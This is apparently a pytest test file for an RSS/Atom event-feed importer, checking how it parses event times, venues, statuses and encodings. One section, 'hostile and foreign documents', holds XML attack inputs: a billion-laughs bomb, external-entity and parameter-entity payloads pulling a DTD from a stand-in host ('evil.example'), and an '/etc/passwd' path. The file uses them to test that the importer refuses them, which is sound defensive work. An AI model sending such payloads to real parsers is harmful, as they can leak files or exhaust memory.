"""The RSS/Atom importer: real Campus Labs feed, one hand-written sample per quirk, hostile XML."""

from __future__ import annotations

import time
import tracemalloc
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any
from xml.sax.saxutils import escape

import pytest
from conftest import FIXTURES, NOW, make_source
from hypothesis import given, settings
from hypothesis import strategies as st

from agenda.model import Listing
from importers.base import ParseResult
from importers.errors import ParseError
from importers.registry import get_parser
from importers.rss import NO_START, parse
from importers.rss_xml import ENTITIES_REFUSED

RSS = FIXTURES / "rss"
AMS = "Europe/Amsterdam"


def read(name: str, **source: Any) -> ParseResult:
    values: dict[str, Any] = {"id": "test", "format": "rss", "url": "https://www.example.nl/feed"}
    values.update(source)
    return parse((RSS / name).read_bytes(), make_source(**values), NOW)


def by_id(result: ParseResult) -> dict[str, Listing]:
    return {listing.external_id: listing for listing in result.listings}


def test_registry_maps_rss_and_atom_here() -> None:
    assert get_parser("rss") is parse
    assert get_parser("atom") is parse


# --- the real Campus Labs Engage feed ---------------------------------------------------


def test_brock_reads_every_item_with_its_event_time() -> None:
    result = read("brock_campuslabs_engage_events_excerpt.xml", city=None, venue=None)
    assert len(result.listings) == 30
    assert result.problems == ()
    exams = by_id(result)["https://experiencebu.brocku.ca/event/282209"]
    # <start xmlns="events">Fri, 04 Apr 2025 17:00:00 GMT</start>: an aware UTC instant...
    assert exams.start == datetime(2025, 4, 4, 17, 0, tzinfo=UTC)
    assert exams.start is not None and exams.start.utcoffset() == timedelta(0)
    assert exams.end == datetime(2025, 4, 4, 18, 0, tzinfo=UTC)
    # ...the same instant as the h-event's 2025-04-04T13:00:00.0000000-04:00.
    assert exams.start == datetime(2025, 4, 4, 13, 0, tzinfo=timezone(timedelta(hours=-4)))
    assert exams.title == "Writing Exams"
    assert exams.categories == (
        "ThoughtfulLearning",
        "Workshops & Skill Development",  # CDATA
        "CWC Experience",
    )
    assert exams.image is not None and exams.image.startswith("https://se-images.campuslabs.ca/")
    assert exams.language == "en"
    assert exams.organizer == "Learning Services"
    # The location is a Teams url; the h-event names the place "Online".
    assert exams.venue_name == "Online"
    assert exams.description.startswith("<p>Exams can cause a lot of <em>stress!</em>")
    hub = by_id(result)["https://experiencebu.brocku.ca/event/284973"]
    assert (hub.start, hub.end) == (
        datetime(2025, 4, 4, 16, 0, tzinfo=UTC),
        datetime(2025, 4, 4, 20, 30, tzinfo=UTC),
    )
    assert hub.venue_name == "TH-134"
    # pubDate (the feed's build time, 17:59:51) is never an event time.
    assert all(listing.start != datetime(2025, 4, 4, 17, 59, 51, tzinfo=UTC)
               for listing in result.listings)  # fmt: skip


def test_brock_duplicated_chit_chaat_stays_two_listings() -> None:
    result = read("brock_campuslabs_engage_events_excerpt.xml")
    chaat = [listing for listing in result.listings if listing.title == "Chit Chaat"]
    assert [listing.external_id for listing in chaat] == [
        "https://experiencebu.brocku.ca/event/294391",
        "https://experiencebu.brocku.ca/event/294392",
    ]
    assert chaat[0].start == chaat[1].start == datetime(2025, 4, 4, 23, 0, tzinfo=UTC)
    assert chaat[0].venue_name == chaat[1].venue_name == "Club House"


# --- hand-written quirks ----------------------------------------------------------------


def test_rss2_event_module() -> None:
    result = read("rss2_event_module.xml", city="Leiden", venue="Stadsgehoorzaal")
    events = by_id(result)
    concert = events["evt-101"]  # guid isPermaLink="false" is still the id
    assert concert.start == datetime(2027, 1, 13, 20, 15, tzinfo=timezone(timedelta(hours=1)))
    assert concert.end == datetime(2027, 1, 13, 22, 0, tzinfo=timezone(timedelta(hours=1)))
    assert concert.url == "https://agenda.example.nl/winterconcert"
    assert (concert.venue_name, concert.address, concert.postcode, concert.city) == (
        "Stadsgehoorzaal",
        "Breestraat 60",
        "2311 CS",
        "Leiden",
    )
    assert concert.organizer == "Stadsgehoorzaal Leiden"
    assert concert.event_type == "concert"
    assert concert.categories == ("Klassiek", "Muziek & Dans")
    assert concert.description == "<p>Strijkkwartet <strong>live</strong>.</p>"  # no script
    assert concert.image == "https://agenda.example.nl/img/winter.jpg"
    assert concert.language == "nl"  # <language>nl-NL</language>
    # No guid: the link is the id. A time without offset is Amsterdam time (summer: +02:00).
    summer = events["https://agenda.example.nl/zomeravond"]
    assert summer.start is not None and summer.end is not None
    assert summer.start.tzinfo is not None and str(summer.start.tzinfo) == AMS
    assert summer.start.isoformat() == "2027-07-02T20:00:00+02:00"
    assert summer.end.isoformat() == "2027-07-02T21:30:00+02:00"
    # Source defaults fill a missing location.
    assert (summer.venue_name, summer.city) == ("Stadsgehoorzaal", "Leiden")
    # Date-only values are all-day; the end date is inclusive.
    light = events["https://agenda.example.nl/licht"]
    assert (light.start, light.start_date, light.end_date) == (
        None,
        date(2027, 3, 1),
        date(2027, 3, 31),
    )
    assert (light.venue_name, light.city) == ("Museum Prinsenhof Delft", "Delft")
    assert light.image == "https://agenda.example.nl/img/licht.png"  # media:content
    # An end before the start is dropped with a warning; the listing stays.
    backwards = events["evt-104"]
    assert backwards.end is None
    assert [(p.external_id, p.field, p.severity) for p in result.problems] == [
        ("evt-104", "end", "warning")
    ]


def test_rss1_rdf_event_module() -> None:
    result = read("rss1_rdf_event_module.xml", city="Leiden", venue=None)
    assert result.problems == ()
    tour, spring = result.listings
    assert tour.external_id == "https://hortus.example.nl/agenda/kassen"  # rdf:about
    assert tour.start == datetime(2027, 3, 14, 14, 0, tzinfo=timezone(timedelta(hours=1)))
    assert (tour.venue_name, tour.address, tour.city) == (
        "Hortus botanicus",
        "Rapenburg 73",
        "Leiden",
    )
    assert tour.categories == ("Rondleiding",)  # dc:subject
    assert (tour.language, tour.event_type, tour.organizer) == (
        "nl",
        "tour",
        "Hortus botanicus Leiden",
    )
    assert tour.description == "Verzamelen bij de ingang."
    assert (spring.start_date, spring.end_date) == (date(2027, 3, 21), None)


def test_atom_with_gd_when() -> None:
    source = {"format": "atom", "url": "https://calendar.example.nl/agenda/feed.atom"}
    result = read("atom_gd_when.xml", **source, venue=None)
    assert result.problems == ()
    events = by_id(result)
    japan = events["urn:uuid:8a0e7d2c-evt-japan"]
    assert japan.title == "Japan & de zee"
    assert japan.start == datetime(2027, 2, 4, 19, 30, tzinfo=timezone(timedelta(hours=1)))
    assert japan.end == datetime(2027, 2, 4, 21, 0, tzinfo=timezone(timedelta(hours=1)))
    assert japan.url == "https://calendar.example.nl/agenda/japan-en-de-zee"  # xml:base
    assert 'href="https://calendar.example.nl/tickets/japan"' in japan.description
    assert japan.categories == ("Lezing", "azie")  # label, else term
    assert (japan.venue_name, japan.postcode, japan.city) == (
        "Museum Volkenkunde",
        "2312 BS",
        "Leiden",
    )
    assert japan.language == "nl"  # xml:lang
    assert japan.status == "scheduled"
    # Google's all-day endTime is exclusive: 6 and 7 February.
    new_year = events["urn:uuid:8a0e7d2c-evt-nieuwjaar"]
    assert (new_year.start_date, new_year.end_date) == (date(2027, 2, 6), date(2027, 2, 7))
    assert events["urn:uuid:8a0e7d2c-evt-kalligrafie"].status == "cancelled"
    assert events["urn:uuid:8a0e7d2c-evt-kalligrafie"].start == datetime(
        2027, 2, 10, 14, tzinfo=UTC
    )
    # Two gd:when: two occurrences of one series.
    tours = [item for item in result.listings if item.title == "Rondleiding"]
    assert [item.start.isoformat() for item in tours if item.start] == [
        "2027-03-06T11:00:00+01:00",
        "2027-03-13T11:00:00+01:00",
    ]
    assert {item.series_id for item in tours} == {"urn:uuid:8a0e7d2c-evt-rondleiding"}
    assert len({item.external_id for item in tours}) == 2
    assert result.follow == ("https://calendar.example.nl/agenda/feed.atom?page=2",)


def test_atom_with_xcal() -> None:
    result = read("atom_xcal.xml", format="atom", city="Den Haag", venue=None)
    assert result.problems == ()
    events = by_id(result)
    travel = events["tag:escher.example.nl,2026:evt-1"]
    # xCal follows iCalendar: an all-day DTEND is exclusive, so the last day is 30 June.
    assert (travel.start_date, travel.end_date) == (date(2027, 4, 1), date(2027, 6, 30))
    assert (travel.venue_name, travel.address, travel.postcode, travel.city) == (
        "Escher in Het Paleis",
        "Lange Voorhout 74",
        "2514 EH",
        "Den Haag",
    )
    assert travel.description == "Tentoonstelling over Eschers reizen door Italië."
    evening = events["tag:escher.example.nl,2026:evt-2"]  # basic format, no offset
    assert evening.start is not None and evening.end is not None
    assert evening.start.isoformat() == "2027-04-15T19:00:00+02:00"
    assert evening.end.isoformat() == "2027-04-15T22:00:00+02:00"
    # RFC 6321 wrapped value with a (vendor-prefixed) tzid; empty title -> xCal:summary.
    lecture = events["tag:escher.example.nl,2026:evt-3"]
    assert lecture.title == "Lezing: Escher en de wiskunde"
    assert lecture.start is not None and str(lecture.start.tzinfo) == "Europe/London"
    assert lecture.start == datetime(2027, 1, 21, 20, 0, tzinfo=UTC)
    assert lecture.status == "cancelled"
    # ev: comes before xCal when an item has both.
    holiday = events["tag:escher.example.nl,2026:evt-4"]
    assert holiday.start == datetime(2027, 5, 1, 10, 0, tzinfo=timezone(timedelta(hours=2)))


def test_hevent_microformat_in_description() -> None:
    result = read("rss2_hevent_description.xml", city="Den Haag", venue="Paard")
    assert result.problems == ()
    night, songs, kingsday = result.listings
    # 7-digit fraction and an offset.
    assert night.start == datetime(2027, 2, 12, 20, 0, tzinfo=timezone(timedelta(hours=1)))
    assert night.end == datetime(2027, 2, 13, 1, 30, tzinfo=timezone(timedelta(hours=1)))
    assert (night.venue_name, night.address, night.city) == ("Paard", "Prinsegracht 12", "Den Haag")
    # The h-event's own description, not the whole microformat block.
    assert night.description == "<p>Elektronische muziek tot <em>laat</em>.</p>"
    # hCalendar <abbr class="dtstart" title="..."> without offset, in content:encoded.
    assert songs.start is not None and songs.start.isoformat() == "2027-03-05T19:30:00+01:00"
    assert songs.end is not None and songs.end.isoformat() == "2027-03-05T22:00:00+01:00"
    assert songs.venue_name == "Kleine zaal"
    # A date as the element's text: all-day.
    assert (kingsday.start_date, kingsday.end_date) == (date(2027, 4, 27), None)


def test_items_without_an_event_start_are_problems_never_pubdate_events() -> None:
    result = read("rss2_no_event_start.xml")
    assert [listing.external_id for listing in result.listings] == ["evt-3"]
    assert result.listings[0].start == datetime(
        2027, 2, 20, 14, tzinfo=timezone(timedelta(hours=1))
    )
    problems = {p.external_id: p for p in result.problems}
    assert problems["news-1"].message == NO_START
    assert problems["news-1"].field == "start"
    assert problems["evt-2"].message == "unreadable event start 'binnenkort'"
    assert problems["evt-4"].field == "title"
    assert all(p.source_id == "test" and p.severity == "error" for p in result.problems)


def test_cancelled_and_postponed_items() -> None:
    events = by_id(read("rss2_cancelled.xml"))
    assert events["sb-1"].status == "cancelled"  # <status xmlns="events">Geannuleerd
    assert events["sb-1"].start == datetime(2027, 2, 12, 19, 30, tzinfo=UTC)
    assert events["sb-2"].status == "cancelled"  # ev:type cancelled
    assert events["sb-2"].event_type is None
    assert events["sb-3"].status == "cancelled"  # AFGELAST
    assert events["sb-4"].status == "postponed"
    assert events["sb-5"].status == "scheduled"
    assert events["sb-5"].event_type == "theatre"


def test_relative_links_are_resolved_against_the_fetched_url() -> None:
    source = make_source(id="test", format="rss", url="https://www.example.nl/feeds/agenda.xml")
    data = (RSS / "rss2_relative_links.xml").read_bytes()
    open_day, closing = parse(data, source, NOW).listings
    assert open_day.external_id == open_day.url == "https://www.example.nl/agenda/open-dag"
    assert open_day.image == "https://www.example.nl/img/open-dag.jpg"
    assert 'href="https://www.example.nl/tickets/open-dag"' in open_day.description
    assert 'href="https://www.example.nl/feeds/meer.html"' in open_day.description
    assert closing.url == "https://www.example.nl/feeds/slotavond"
    # ``url`` (where it was fetched) wins over the source's configured url.
    moved = parse(data, source, NOW, url="https://cdn.example.org/x/feed.xml").listings[0]
    assert moved.url == "https://cdn.example.org/agenda/open-dag"
    # No usable base (a file path): the relative link is still the id, but no url.
    local = parse(data, make_source(id="test", url="agenda.xml"), NOW).listings[0]
    assert (local.external_id, local.url) == ("/agenda/open-dag", None)


def one_item(start: str) -> bytes:
    return (
        '<rss version="2.0" xmlns:ev="http://purl.org/rss/1.0/modules/event/"><channel>'
        "<title>t</title><item><title>Concert</title><guid>c-1</guid>"
        f"<ev:startdate>{start}</ev:startdate></item></channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    ("written", "instant"),
    [
        ("2027-03-01T20:00:00Z", "2027-03-01T20:00:00+00:00"),
        ("2027-03-01T20:00:00+0100", "2027-03-01T20:00:00+01:00"),
        ("2027-03-01T20:00:00.1234567-04:00", "2027-03-01T20:00:00.123456-04:00"),
        ("2027-03-01 20:00", "2027-03-01T20:00:00+01:00"),
        ("20270301T200000", "2027-03-01T20:00:00+01:00"),
        ("2027-03-01T24:00:00", "2027-03-02T00:00:00+01:00"),
        ("Mon, 01 Mar 2027 20:00:00 +0100", "2027-03-01T20:00:00+01:00"),
        ("Mon, 01 Mar 2027 20:00:00 -0000", "2027-03-01T20:00:00+00:00"),
        ("Sun, 28 Mar 2027 03:30:00 CEST", "2027-03-28T03:30:00+02:00"),
    ],
)
def test_start_time_spellings(written: str, instant: str) -> None:
    (listing,) = parse(one_item(written), make_source(id="test"), NOW).listings
    assert listing.start is not None and listing.start.isoformat() == instant


@pytest.mark.parametrize("written", ["2027-13-01", "2027-03-01T20:00:00+25:00", "morgen"])
def test_impossible_start_times_are_problems(written: str) -> None:
    result = parse(one_item(written), make_source(id="test"), NOW)
    assert result.listings == ()
    assert [p.message for p in result.problems] == [f"unreadable event start {written!r}"]


def test_entities_in_titles() -> None:
    titles = [listing.title for listing in read("rss2_entities_in_titles.xml").listings]
    assert titles == [
        "Rock & Roll",
        "Café Chantant – Première",
        "Tom & Jerry – live",
        "Vet concert",
    ]


def test_html_entities_and_bare_ampersands_are_repaired() -> None:
    result = read("rss2_malformed_html_entity.xml")
    assert result.problems == ()
    events = by_id(result)
    assert events["m-1"].title == "Café & concert"
    assert events["m-1"].venue_name == "De Burcht"
    assert events["m-2"].start == datetime(2027, 3, 2, 19, 0, tzinfo=UTC)
    assert events["m-3"].start is not None
    assert events["m-3"].start.isoformat() == "2027-03-03T20:00:00+01:00"


def test_unrepairable_xml_falls_back_to_feedparser() -> None:
    result = read("rss2_mismatched_tags.xml")
    events = by_id(result)
    assert events["k-1"].title == "Concert live"
    assert events["k-1"].start == datetime(2027, 3, 1, 20, tzinfo=timezone(timedelta(hours=1)))
    assert events["k-1"].venue_name == "De Burcht"
    # xCal under a prefix of the document's choosing.
    assert events["k-2"].start is not None and events["k-2"].end is not None
    assert events["k-2"].end.isoformat() == "2027-03-03T22:00:00+01:00"
    assert [(p.external_id, p.message) for p in result.problems] == [("k-3", NO_START)]


def test_invalid_utf8_bytes_are_replaced_not_fatal() -> None:
    first, second = read("invalid_utf8.xml").listings
    assert first.title == "Caf\ufffd Chantant \ufffd"
    assert second.title == "Première"  # valid UTF-8 around the bad bytes is kept


def test_latin1_label_is_read_as_windows_1252() -> None:
    (listing,) = read("rss2_windows1252.xml").listings
    assert listing.title == "“Café” in de Présentatiezaal"


# --- hostile and foreign documents ------------------------------------------------------


def test_billion_laughs_is_refused_quickly_without_expanding() -> None:
    data = (RSS / "billion_laughs.xml").read_bytes()
    tracemalloc.start()
    began = time.perf_counter()
    try:
        with pytest.raises(ParseError, match=ENTITIES_REFUSED):
            parse(data, make_source(id="test", format="rss"), NOW)
        elapsed = time.perf_counter() - began
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 1.0
    assert peak < 5_000_000  # the expansion would be ~3 GB


def test_external_entity_is_refused() -> None:
    with pytest.raises(ParseError, match=ENTITIES_REFUSED):
        read("external_entity.xml")


@pytest.mark.parametrize(
    "data",
    [
        # parameter entity pulling in a remote DTD
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">'
        b' %p;]><rss version="2.0"><channel><title>x</title></channel></rss>',
        # entities in a document that is not well-formed anyway (no XML parser reaches them)
        b'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<rss version="2.0"><channel><title>&b; & </title><item><title>x</item></channel>',
        # hidden behind a comment holding a tag, in a document that is not well-formed
        b"<!-- <rss> --><!DOCTYPE rss [<!ENTITY a 'b'>]><rss><channel><title>&a; &",
        # UTF-16 with a BOM
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY x "y">]><rss/>'.encode(
            "utf-16"
        ),
    ],
)
def test_entity_declarations_are_refused_in_every_shape(data: bytes) -> None:
    with pytest.raises(ParseError, match=ENTITIES_REFUSED):
        parse(data, make_source(id="test", format="rss"), NOW)


def test_a_doctype_without_entities_is_fine() -> None:
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
        b"<title>Oud</title><link>https://oud.example.nl/</link><description>d</description>"
        b"<item><title>Zonder datum</title><link>https://oud.example.nl/1</link></item>"
        b"</channel></rss>"
    )
    result = parse(data, make_source(id="test", format="rss"), NOW)
    assert result.listings == ()
    assert [p.message for p in result.problems] == [NO_START]


@pytest.mark.parametrize(
    "data",
    [
        (RSS / "html_page.html").read_bytes(),
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
        b'{"events": [{"title": "x", "start": "2027-03-01"}]}',
        b"",
        b"  \n\t ",
        b"/etc/passwd",  # never opened as a file: feedparser gets a stream, not a path
    ],
    ids=["html", "xhtml", "json", "empty", "blank", "path"],
)
def test_documents_that_are_not_feeds_raise_parse_error(data: bytes) -> None:
    with pytest.raises(ParseError):
        parse(data, make_source(id="test", format="rss"), NOW)


def test_an_empty_feed_is_fine() -> None:
    data = b'<rss version="2.0"><channel><title>Leeg</title></channel></rss>'
    assert parse(data, make_source(id="test", format="rss"), NOW) == ParseResult()


# --- properties ---------------------------------------------------------------------------

FIELD = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)


@settings(max_examples=150, deadline=None)
@given(
    title=FIELD,
    start=st.one_of(FIELD, st.dates().map(str), st.datetimes().map(datetime.isoformat)),
    end=FIELD,
    location=FIELD,
    status=FIELD,
)
def test_any_item_fields_give_a_listing_or_a_problem(
    title: str, start: str, end: str, location: str, status: str
) -> None:
    item = (
        f"<item><title>{escape(title)}</title><guid>p-1</guid>"
        f"<ev:startdate>{escape(start)}</ev:startdate><ev:enddate>{escape(end)}</ev:enddate>"
        f"<ev:location>{escape(location)}</ev:location>"
        f'<status xmlns="events">{escape(status)}</status></item>'
    )
    data = (
        '<rss version="2.0" xmlns:ev="http://purl.org/rss/1.0/modules/event/">'
        f"<channel><title>p</title>{item}</channel></rss>"
    ).encode()
    result = parse(data, make_source(id="test"), NOW)
    errors = [p for p in result.problems if p.severity == "error"]
    assert len(result.listings) + len(errors) == 1
    for listing in result.listings:
        assert listing.start is None or listing.start.utcoffset() is not None


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=600))
def test_any_bytes_give_a_result_or_a_parse_error(data: bytes) -> None:
    try:
        result = parse(data, make_source(id="test"), NOW)
    except ParseError:
        return
    assert isinstance(result, ParseResult)
